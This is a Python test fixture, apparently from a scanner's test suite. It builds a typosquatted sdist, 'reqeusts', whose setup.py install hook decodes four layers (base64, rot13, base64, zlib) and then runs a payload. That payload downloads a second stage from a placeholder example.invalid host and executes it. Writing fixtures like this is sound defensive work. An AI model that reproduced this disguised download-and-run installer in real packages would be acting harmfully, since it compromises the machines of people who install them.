"""A sample of our own: a look-alike whose install command hides, under four decoders, a fetch, a file and its start.

Inert: the host is under ``example.invalid`` (RFC 2606), and nothing of it is ever run.
"""

from __future__ import annotations

import base64
import codecs
import zlib

from tests.support.distributions import Built, make_sdist

_INNERMOST = """\
import os, tempfile, urllib.request
target = os.path.join(tempfile.gettempdir(), "updater.py")
with open(target, "wb") as file:
    file.write(urllib.request.urlopen("http://files.example.invalid/stage2").read())
os.system("python3 " + target)
"""
_SETUP = """\
from setuptools import setup
from setuptools.command.install import install
import base64
import codecs

_DATA = "{data}"


class PostInstall(install):
    def run(self):
        install.run(self)
        exec(codecs.decode(base64.b64decode(_DATA).decode(), "rot13"))


setup(
    name="reqeusts",
    version="2.32.9",
    packages=["reqeusts"],
    cmdclass={{"install": PostInstall}},
)
"""


def layered() -> Built:
    """The sdist ``reqeusts-2.32.9.tar.gz``: base64, rot13, base64 and zlib around a second stage."""
    packed = base64.b64encode(zlib.compress(_INNERMOST.encode(), 9)).decode()
    middle = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"
    data = base64.b64encode(codecs.encode(middle, "rot13").encode()).decode()
    return make_sdist(
        "reqeusts",
        "2.32.9",
        {"setup.py": _SETUP.format(data=data), "reqeusts/__init__.py": '"""HTTP for humans."""\n'},
    )
